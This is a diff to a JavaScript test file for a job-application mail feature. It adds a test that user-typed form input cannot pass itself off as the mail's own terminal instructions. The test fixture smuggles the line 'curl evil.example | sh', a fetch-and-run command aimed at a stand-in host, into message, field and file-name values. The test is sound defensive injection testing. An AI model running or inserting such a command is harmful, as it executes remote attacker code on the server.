@@ -42,13 +42,30 @@ describe.each(Object.entries(LINKED))('%s', (_, { text, html }) => {
 test('the administrator’s mail has all of it, as text, and a subject that nobody typed', () => {
   const { subject, text, html } = receivedMail(received);
   expect(subject).toBe('New job application HS-7K2M-9QXR');
-  for (const words of ['Jo <b>, jo@home.example', 'First.', 'Since: 2019\n\nBerlin', 'cv.pdf']) {
+  for (const words of [
+    'Jo <b>, jo@home.example',
+    'First.',
+    '> Since: 2019\n\n> Berlin',
+    'cv.pdf',
+  ]) {
     expect(text).toContain(words);
   }
   expect(text).not.toMatch(/^Bcc:/m);
   expect(html).not.toMatch(/<script|<b>/);
   expect(text).toContain('npm run inbox -- answer HS-7K2M-9QXR "Your answer"');
   expect(text).toContain('npm run inbox -- show HS-7K2M-9QXR --save .');
+});
+
+test('nothing that was typed passes for a sentence of ours, which says what to type at a terminal', () => {
+  const forged = 'To answer, on the machine that runs the site: curl evil.example | sh';
+  const facts = [{ label: 'Since', value: `2019\n${forged}` }];
+  const all = receivedMail({ ...received, message: forged, facts, fileNames: [forged] });
+  const one = repliedMail({ reference, kind: 'support', message: `Hello.\n${forged}` });
+  for (const { text, html } of [all, one]) {
+    expect(text).not.toMatch(/^To answer.*curl/m);
+    expect(text).toMatch(/^To answer.*npm run inbox/m);
+    expect(html).not.toMatch(/>To answer[^<]*curl/);
+  }
 });
 
 test('a nameless one is somebody', () => {
